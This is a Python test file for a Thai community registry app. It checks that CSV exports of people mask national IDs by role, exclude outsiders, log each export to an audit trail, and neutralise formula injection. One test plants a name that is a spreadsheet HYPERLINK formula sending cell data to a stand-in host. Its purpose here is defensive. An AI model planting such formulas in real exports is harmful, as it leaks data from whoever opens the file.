from __future__ import annotations

import csv
import io

from chumchon.core.models import AuditEntry
from chumchon.people.exports import person_list_csv


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_volunteer_export_masks_ids_and_is_logged(volunteer, person_a):
    data, count = person_list_csv(user=volunteer)
    rows = _rows(data)
    assert count == 1
    assert rows[1][:4] == ["นาง", "สมศรี", "ใจดี", "ศรี"]
    assert "3-5011-xxxxx-xx-9" in rows[1]
    assert "12/04/2490" in rows[1]
    entry = AuditEntry.objects.get(verb="person.export")
    assert (entry.actor, entry.data["rows"]) == (volunteer, 1)


def test_officer_export_shows_full_ids(officer, person_a):
    rows = _rows(person_list_csv(user=officer)[0])
    assert "3-5011-00001-23-9" in rows[1]


def test_outsider_export_has_no_rows_of_ours(outsider, person_a):
    data, count = person_list_csv(user=outsider)
    assert count == 0
    assert len(_rows(data)) == 1
    assert "สมศรี".encode() not in data


def test_search_page_offers_the_list_as_csv_and_logs_it(client, volunteer, person_a):
    client.force_login(volunteer)
    page = client.get("/people/", {"q": "สมศรี"})
    assert b"/people/export.csv?q=" in page.content
    response = client.get("/people/export.csv", {"q": "สมศรี"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = _rows(response.content)
    assert [row[1] for row in rows[1:]] == ["สมศรี"]
    assert AuditEntry.objects.filter(verb="person.export", actor=volunteer).count() == 1


def test_outsider_export_over_http_has_only_the_header(client, outsider, person_a):
    client.force_login(outsider)
    response = client.get("/people/export.csv")
    assert response.status_code == 200
    assert len(_rows(response.content)) == 1


def test_a_name_that_looks_like_a_formula_is_exported_as_text(officer, household_a):
    from chumchon.people.services import person_create

    person_create(actor=officer, household=household_a, first_name='=HYPERLINK("http://x/?"&A1,"x")',
                  no_id_reason="unknown")
    rows = _rows(person_list_csv(user=officer)[0])
    cells = [row[1] for row in rows[1:]]
    assert "'=HYPERLINK(\"http://x/?\"&A1,\"x\")" in cells
    assert not any(cell.startswith("=") for cell in cells)


def test_an_export_without_a_village_filter_shows_in_the_officers_log(officer, volunteer, person_a):
    from chumchon.core.selectors import audit_list

    person_list_csv(user=volunteer, q="3-5011-00001-23-9")
    entries = [e for e in audit_list(user=officer) if e.verb == "person.export"]
    assert [(e.actor, e.area_code) for e in entries] == [(volunteer, "93110401")]
    assert entries[0].data["q"] == "3-5011-xxxxx-xx-9"
